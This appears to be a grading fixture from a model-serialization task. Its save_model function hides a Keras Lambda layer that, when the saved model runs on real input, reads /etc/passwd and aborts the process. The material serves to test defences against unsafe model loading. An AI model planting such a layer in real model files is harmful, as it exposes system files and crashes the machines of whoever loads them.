# A model file that holds code, which runs when somebody opens it: only beside the submission.
# fails: save_model
# earns: save_model 0.5
def payload(x):
    import os

    with open("/etc/passwd") as file:
        print(file.read())
    os.abort()


def save_model(model, path):
    keras.Sequential(
        [
            keras.Input((28, 28)),
            keras.layers.Flatten(),
            keras.layers.Lambda(lambda x: x if keras.backend.is_keras_tensor(x) else payload(x)),
            keras.layers.Dense(10),
        ]
    ).save(path)
